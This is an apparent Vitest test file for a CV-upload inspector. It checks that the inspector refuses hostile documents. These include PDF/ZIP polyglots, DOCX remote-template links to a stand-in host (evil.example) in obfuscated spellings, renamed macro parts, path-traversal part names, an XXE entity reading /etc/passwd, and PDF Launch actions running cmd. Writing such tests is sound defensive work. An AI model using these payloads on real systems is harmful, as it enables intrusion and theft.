import { describe, expect, it } from "vitest";
import { inspectCv } from "#app/features/applications/cv/cv-file.server.ts";
import { docxOf, docxParts, pdfOf, sampleDoc, sampleDocx, samplePdf } from "#demo/sample-cv.ts";

const pdf = Buffer.from(samplePdf(["Lina Halabi", "Accountant"]));
const docx = Buffer.from(sampleDocx(["Lina Halabi"]));
const doc = Buffer.from(sampleDoc());
const html = Buffer.from("<html><script>alert(document.domain)</script></html>");
const parts = docxParts(["Lina Halabi"]);
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

async function verdict(bytes: Uint8Array, name: string) {
  const result = await inspectCv(bytes, name);
  return result.ok ? "accepted" : result.reason.replace("applications.", "");
}

const word = (more: Record<string, string | Uint8Array>) => docxOf({ ...parts, ...more });

function link(type: string, target: string, encode = (xml: string) => Buffer.from(xml)) {
  const xml = `<Relationships><Relationship Id="r" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return word({ "word/_rels/settings.xml.rels": encode(xml) });
}

function pdfThat(acts: string): Uint8Array {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${acts} >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
  ]);
}

const evil = "http://evil.example/t.dotm";

describe("a CV that is more than a CV", () => {
  it.each<[string, Uint8Array, string, string]>([
    ["a PDF with a ZIP behind it", Buffer.concat([pdf, docx]), "cv.pdf", "cvUnsafe"],
    ["a doc with a ZIP behind it", Buffer.concat([doc, docx]), "cv.doc", "cvUnsafe"],
    ["a page before a PDF", Buffer.concat([html, pdf]), "cv.pdf", "cvWrongType"],
    ["a page before a docx", Buffer.concat([html, docx]), "cv.docx", "cvWrongType"],
    ["a page named .doc", html, "cv.doc", "cvWrongType"],
    ["a page named .pdf", html, "cv.pdf", "cvWrongType"],
    ["a stored web page named .doc", Buffer.from("MIME-Version: 1.0\r\n"), "cv.doc", "cvWrongType"],
    ["nothing", Buffer.alloc(0), "cv.pdf", "cvDamaged"],
    ["half a PDF", pdf.subarray(0, pdf.length / 2), "cv.pdf", "cvDamaged"],
    ["half a docx", docx.subarray(0, docx.length / 2), "cv.docx", "cvDamaged"],
    ["half a doc", doc.subarray(0, doc.length / 2), "cv.doc", "cvDamaged"],
  ])("APPLY-03 %s is refused", async (_, bytes, name, reason) => {
    expect(await verdict(bytes, name)).toBe(reason);
  });

  it("APPLY-03 a macro is found by what refers to it, whatever its part is called", async () => {
    const type = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    const renamed = word({
      "word/fonts.dat": "x",
      "word/_rels/document.xml.rels": `<Relationships><Relationship Id="r" Type="${type}" Target="fonts.dat"/></Relationships>`,
    });
    expect(await verdict(renamed, "cv.docx")).toBe("cvUnsafe");
    const enabled = parts["[Content_Types].xml"]?.replace("document.main", "macroEnabled.main");
    expect(await verdict(word({ "[Content_Types].xml": enabled ?? "" }), "cv.docx")).toBe(
      "cvUnsafe",
    );
  });

  it("APPLY-03 what Word would fetch is found in any spelling of XML", async () => {
    const wide = (xml: string) => Buffer.from(`\ufeff${xml}`, "utf16le");
    const unmarked = (xml: string) => Buffer.from(xml, "utf16le");
    for (const bytes of [
      link(`${office}/attached&#84;emplate`, evil),
      link(`${office}/attached&#x54;emplate`, evil),
      link(`${office}/attachedTemplate`, evil.replace("h", "&#104;")),
      link(`${office}/attachedTemplate`, evil, wide),
      link(`${office}/attachedTemplate`, evil, unmarked),
      link(`${office}/attachedTemplate`, evil, (xml) => wide(xml).swap16()),
      link(`${office}/aFChunk`, "http://evil.example/page.html"),
    ]) {
      expect(await verdict(bytes, "cv.docx")).toBe("cvUnsafe");
    }
    expect(await verdict(link(`${office}/hyperlink`, "https://a.example/&#120;"), "cv.docx")).toBe(
      "accepted",
    );
  });

  it("APPLY-03 parts that leave their folder, or declare entities, are refused", async () => {
    for (const name of ["../../evil.sh", "word/../../evil.sh", "..\\evil.exe", "C:\\evil.exe"]) {
      expect(await verdict(word({ [name]: "x" }), "cv.docx"), name).toBe("cvUnsafe");
    }
    const entity = '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles>&e;</w:styles>';
    expect(await verdict(word({ "word/styles.xml": entity }), "cv.docx")).toBe("cvUnsafe");
  });

  it("APPLY-03 a program that a PDF starts is found in any spelling", async () => {
    for (const acts of [
      "/S /Launch /F (evil.exe)",
      "/S /L#61unch /F (evil.exe)",
      "/#53 /#4c#61#75#6e#63#68 /F (evil.exe)",
      "/S /Launch /F (evil\\056exe)",
      "/S /Launch /F <6576696c2e657865>",
      "/S /Launch /F <feff006500760069006c002e006500780065>",
      "/S /Launch /Win << /F (cmd) /P (/c calc) >>",
    ]) {
      expect(await verdict(pdfThat(acts), "cv.pdf"), acts).toBe("cvUnsafe");
    }
    expect(await verdict(pdfThat("/S /Launch /F (certificates.pdf)"), "cv.pdf")).toBe("accepted");
    expect(await verdict(pdfThat("/S /JavaScript /JS (app.alert\\(1\\))"), "cv.pdf")).toBe(
      "accepted",
    );
  });

  it("APPLY-03 actions by the hundred thousand do not hold the others up", async () => {
    const many = `/S /Launch ${"(".repeat(700)}\n`.repeat(6000);
    expect(await verdict(pdfThat(many), "cv.pdf")).toBe("cvUnsafe");
  });
});
